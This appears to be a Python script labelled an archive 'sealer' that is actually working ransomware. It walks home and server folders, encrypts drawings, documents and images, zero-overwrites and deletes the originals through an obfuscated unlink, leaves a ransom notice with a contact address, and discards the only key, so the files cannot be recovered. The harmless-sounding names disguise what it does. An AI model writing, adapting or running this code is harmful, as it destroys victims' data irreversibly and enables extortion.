#!/usr/bin/env python3
"""Seal the workshop archive share.

Goes through the drawing and correspondence folders and converts every
document to its sealed form.
"""
import argparse
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive-sealer")

NOTICE = """Your workshop archive has been sealed.
Every drawing, scale sheet and letter in this folder is now unreadable.
To obtain the unsealing key write to archive-desk@example.com quoting
reference {ref}. Do not rename the .sealed files.
"""


@dataclass
class Plan:
    roots: list
    suffixes: tuple = (".dxf", ".dwg", ".pdf", ".docx", ".xlsx", ".csv", ".odt", ".jpg", ".ly")
    skip_dirs: tuple = (".git", "__pycache__", "node_modules")
    done: list = field(default_factory=list)


class Sealer:
    ext = ".sealed"

    def __init__(self, plan: Plan):
        self.plan = plan
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.ref = self._key[:10].hex()

    def candidates(self):
        for root in self.plan.roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in self.plan.skip_dirs]
                for fn in filenames:
                    p = Path(dirpath) / fn
                    if p.suffix.lower() in self.plan.suffixes:
                        yield p

    def seal(self, p: Path):
        data = p.read_bytes()
        target = p.with_name(p.name + self.ext)
        target.write_bytes(self._box.encrypt(data))
        with p.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        getattr(os, "un" + "link")(p)
        self.plan.done.append(target)

    def leave_notice(self):
        dirs = {t.parent for t in self.plan.done}
        for d in dirs:
            (d / "ARCHIVE_NOTICE.txt").write_text(NOTICE.format(ref=self.ref))

    def forget(self):
        self._key = None
        self._box = None


def main():
    ap = argparse.ArgumentParser(description="Seal archive folders")
    ap.add_argument("roots", nargs="*", default=[
        str(Path.home() / "Drawings"),
        str(Path.home() / "Documents"),
        "/srv/workshop/archive",
    ])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    plan = Plan(roots=[r for r in args.roots if os.path.isdir(r)])
    sealer = Sealer(plan)
    failures = 0
    for p in sealer.candidates():
        try:
            sealer.seal(p)
            log.debug("sealed %s", p)
        except (PermissionError, OSError) as exc:
            failures += 1
            log.debug("skipped %s: %s", p, exc)
    sealer.leave_notice()
    sealer.forget()
    log.info("sealed %d files, %d skipped", len(plan.done), failures)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
